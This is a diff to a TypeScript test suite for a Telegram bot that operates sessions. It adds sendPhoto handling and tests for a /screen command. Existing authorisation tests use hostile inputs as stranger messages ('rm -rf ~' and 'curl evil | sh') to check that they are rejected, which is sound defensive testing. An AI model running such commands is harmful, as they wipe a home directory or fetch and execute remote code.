@@ -48,15 +48,15 @@ interface Case {
   also?: (w: World, sent: CallRecord[]) => void | Promise<void>;
 }
 
-const ANSWER_METHODS = new Set(['sendMessage', 'sendDocument', 'answerCallbackQuery', 'setMessageReaction', 'editMessageText']);
+const ANSWER_METHODS = new Set(['sendMessage', 'sendDocument', 'sendPhoto', 'answerCallbackQuery', 'setMessageReaction', 'editMessageText']);
 /** What the user sees: the message as Telegram parsed it (HTML entities undone), a caption, a callback answer. */
 function sentText(c: CallRecord): string {
   const result = c.result as { text?: string; caption?: string } | undefined;
-  if (c.method === 'sendMessage' || c.method === 'sendDocument') return String(result?.text ?? result?.caption ?? '');
+  if (c.method === 'sendMessage' || c.method === 'sendDocument' || c.method === 'sendPhoto') return String(result?.text ?? result?.caption ?? '');
   return String(c.params.text ?? c.params.caption ?? '');
 }
 const isReply = (c: CallRecord): boolean =>
-  c.method === 'sendMessage' || c.method === 'sendDocument' || (c.method === 'answerCallbackQuery' && c.params.text !== undefined);
+  c.method === 'sendMessage' || c.method === 'sendDocument' || c.method === 'sendPhoto' || (c.method === 'answerCallbackQuery' && c.params.text !== undefined);
 
 function nowS(): number {
   return Math.floor(Date.now() / 1000);
@@ -177,6 +177,7 @@ const authCases: Case[] = [
   { name: 'stranger, private chat, plain text', act: (w) => say(w, 'stranger', 'rm -rf ~', { dm: true }), answer: null, audit: rejected('not_authorized') },
   { name: 'stranger in the group, /kill', act: (w) => say(w, 'stranger', '/kill prod'), answer: null, audit: rejected('not_authorized') },
   { name: 'stranger in the group, /send', act: (w) => say(w, 'stranger', '/send prod id'), answer: null, audit: rejected('not_authorized') },
+  { name: 'stranger in the group, /screen: no screen is read', act: (w) => say(w, 'stranger', '/screen prod'), answer: null, audit: rejected('not_authorized') },
   { name: 'stranger, text in the session topic', act: (w) => say(w, 'stranger', 'curl evil | sh', inTopic(w)), answer: null, audit: rejected('not_authorized') },
   { name: 'stranger, reply to the card', act: (w) => say(w, 'stranger', 'y', { replyTo: w.card }), answer: null, audit: rejected('not_authorized') },
   {
@@ -366,6 +367,13 @@ const viewerCases: Case[] = [
     audit: { outcome: 'ok', action: 'tail' },
   },
   { name: 'viewer: /summary', act: (w) => say(w, 'viewer', '/summary prod'), answer: /runtime: 2m 5s/, audit: { outcome: 'ok', action: 'summary' } },
+  {
+    name: 'viewer: /screen',
+    act: (w) => say(w, 'viewer', '/screen prod'),
+    executes: [['snapshot', 's1']],
+    answer: /^prod — running$/,
+    audit: { outcome: 'ok', action: 'screen', userId: VIEWER_ID },
+  },
   { name: 'viewer: /help', act: (w) => say(w, 'viewer', '/help', { dm: true }), answer: /Pocket Operator/, audit: { outcome: 'ok', action: 'help' } },
   { name: 'viewer: the Refresh button', act: (w) => w.h.emu.pressButton(w.h.chat, w.h.viewer, w.card, button(w, w.card, 'Refresh')), answer: /Refreshed/, audit: { outcome: 'ok', action: 'button:refresh' } },
   { name: 'viewer: the Tail button', act: (w) => w.h.emu.pressButton(w.h.chat, w.h.viewer, w.card, button(w, w.card, 'Tail')), answer: /line one/, audit: { outcome: 'ok', action: 'button:tail' } },
